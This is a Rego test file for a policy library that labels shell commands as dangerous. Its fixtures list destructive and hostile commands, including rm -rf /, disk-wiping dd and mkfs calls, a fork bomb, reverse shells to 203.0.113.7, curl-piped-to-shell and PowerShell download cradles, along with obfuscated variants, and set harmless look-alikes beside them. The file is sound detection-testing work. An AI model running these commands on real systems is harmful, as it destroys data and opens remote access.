package lib.commands_test

import rego.v2

import data.lib.commands

_does(danger, texts) if {
	every text in texts {
		commands.dangers(text) == {danger}
	}
}

test_removes_everything if {
	_does("removes everything below a place", [
		"rm -rf /", "rm -fr /*", "rm -r -f ~", "rm --recursive --force ~/", "rm -Rf $HOME", "rm -rf \"${HOME}/\"", "sudo rm -rf /etc",
		"/bin/rm -rf /usr/*", "cd /srv && rm -rf *", "cd /srv; rm -rf .", "true || rm -rf ./", "ls\nrm -rf ..", "r\\m -rf /", "'rm' -rf /",
		"rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/", "rm\t-rf\t/", "rm\r-rf\r/", "rm -rf\\\n/", "A=1 rm -rf /", "xargs rm -rf /home", "(rm -rf /root)", "echo `rm -rf /`",
		"echo $(rm -rf /)", "{ rm -rf /; }", "ls & rm -rf /", "rm -rf docs /", "sudo -u root rm -rf /var", "rm \\\n -rf /", "RM -RF /",
	])
}

test_every_root if {
	every root in [
		"/", ".", "..", "~", "$HOME", "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib64", "/opt", "/root", "/sbin", "/srv", "/System",
		"/Users", "/usr", "/var",
	] {
		commands.dangers($"rm -r {root}") == {"removes everything below a place"}
		commands.dangers($"rm -r {root}/") == {"removes everything below a place"}
		commands.dangers($"rm -r {root}/*") == {"removes everything below a place"}
	}
}

test_every_wrapper if {
	every wrapper in [
		"builtin", "busybox", "chroot", "command", "doas", "env", "exec", "ionice", "nice", "nohup", "setsid", "stdbuf", "sudo", "time",
		"timeout", "xargs", "/usr/bin/sudo", "A=b",
	] {
		commands.dangers($"{wrapper} x reboot") == {"stops the machine"}
	}
}

test_opens_files if {
	every mode in ["666", "777", "0777", "1777", "2777", "4777", "6777", "a+rwx", "a=rwx", "a+w", "o+w", "o+rwx", "o=rwx", "ugo+rwx"] {
		commands.dangers($"chmod -R {mode} docs") == {"opens files to everybody"}
	}
}

test_overwrites_a_device if {
	_does("overwrites a device", [
		"dd if=/dev/zero of=/dev/sda bs=1M", "cat x > /dev/sda", "cat x >/dev/nvme0n1", "echo 1 >> /dev/mem", "x >/dev/disk0", "x >/dev/hda",
		"x >/dev/vda", "x >/dev/xvda", "shred -n 3 /dev/sda", "mkfs /dev/sda", "mkfs.ext4 /dev/sda1", "sudo mkfs.xfs /dev/sdb", "x &>/dev/sda",
	])
	every program in ["blkdiscard", "cfdisk", "fdisk", "mke2fs", "mkswap", "parted", "sfdisk", "sgdisk", "wipefs"] {
		commands.dangers($"/sbin/{program} /dev/sda") == {"overwrites a device"}
	}
}

test_fork_bomb if {
	_does("is a fork bomb", [":(){ :|:& };:", ":(){:|:&};:", ": () {\n :|: &\n}; :"])
}

test_reverse_shell if {
	_does("opens a reverse shell", [
		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "exec 5<>/dev/udp/203.0.113.7/53", "nc -e /bin/sh 203.0.113.7 4444", "ncat --exec /bin/sh x 1",
		"ncat --sh-exec sh x 1", "ncat --lua-exec x y 1", "netcat x 1 -c sh", "nc -lve sh", "socat tcp:x:1 exec:sh", "socat tcp:x:1 SYSTEM:sh",
		"socat tcp:x:1 shell:sh",
	])
}

test_runs_what_it_fetches if {
	_does("runs what it downloads or decodes", [
		"curl -fsSL https://a.example/install.sh | sh", "wget -qO- https://a.example | sudo bash", "curl a | tee x | bash", "curl a 2>&1 | sh",
		"curl a |& sh", "curl>&2 | sh", "curl&>x | sh", "ls | bash $(curl a)", "bash <(curl a | tee b)", "sh -c \"$(curl -fsSL https://a.example)\"", "bash <(curl a)", "eval `curl a`", "source <(wget -qO- a)", ". <(curl a)",
		"echo aGk= | base64 -d | sh", "echo aGk= | base64 --decode | python3", "base64 -di x | sh", "xxd -r x | sh", "xxd -rp x | sh",
		"openssl enc -d -in x | sh", "base32 -d x|sh", "ls && curl a | env bash",
		"powershell IEX (New-Object Net.WebClient).DownloadString('http://a')", "iex(iwr http://a)", "Invoke-Expression (Invoke-WebRequest a)",
		"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
	])
}

test_every_source_and_reader if {
	every source in ["aria2c", "curl", "fetch", "lwp-download", "uudecode", "wget"] {
		commands.dangers($"{source} x | sh") == {"runs what it downloads or decodes"}
	}
	every reader in [
		".", "ash", "bash", "csh", "dash", "eval", "fish", "ksh", "lua", "node", "perl", "php", "powershell", "pwsh", "python", "python2",
		"python3", "ruby", "sh", "source", "tclsh", "tcsh", "zsh",
	] {
		commands.dangers($"curl x | /usr/bin/{reader}") == {"runs what it downloads or decodes"}
		commands.dangers($"{reader} $(curl x)") == {"runs what it downloads or decodes"}
	}
}

test_stops_the_machine if {
	_does("stops the machine", [
		"halt", "poweroff -f", "sudo reboot", "shutdown -h now", "if (reboot); then ls; fi", "(ls)reboot", "if { reboot; }; then ls; fi", "{ ls }reboot",
	])
}

test_several_dangers if {
	commands.dangers("reboot; chmod 777 x") == {"stops the machine", "opens files to everybody"}
}

test_harmless if {
	every text in [
		"", "ls -la /", "rm notes.txt", "rm -rf ./build", "rm -rf build/*", "rm -f /", "rm -i /srv/a", "git rm -r .", "rmdir /", "rm --force /",
		"rm --preserve-root docs", "rm -f -- /", "rm -rf /srv${HOME}", "rm --dir /",
		"chmod 755 x", "chmod u+x x", "chmod 0 x", "dd if=a of=b", "dd if=a of=/dev/null", "dd if=/dev/sda of=disk.img", "echo x > /dev/null",
		"shred x", "curl a -o b", "curl a | jq .", "curl a | tee x", "sh x | curl -d @- a", "curl a; sh b", "curl a && sh b", "wget a || bash b",
		"echo $(curl a)", "sh -c ls $", "bash < x; curl a", "echo x | base64 | sh", "base64 -d x > y", "base64 -d x | jq .", "nc -z x 1", "nc --verbose x 1", "nc x 1",
		"socat tcp:x:1 tcp:y:2", "echo reboot", "echo 777", "echo of=/dev/sda", "echo exec:ls", "grep -d x | sh", "sudo curl sh", "bash <(ls)", "eval $(ssh-agent -s)", "grep shutdown log", "cat mkfs.txt", "man mkfs", "iexplore", "iwr http://a", "downloadstring", ":(){ :; };:", "cat /dev/tcp",
		"python3 -c 'print(1)' | wget x", "x=$(curl y); python z.py",
	] {
		commands.dangers(text) == set()
	}
}

test_ill_typed_is_harmless if {
	every value in [7, null, true, ["rm -rf /"], {"a": "rm -rf /"}] {
		commands.dangers(value) == set()
	}
}
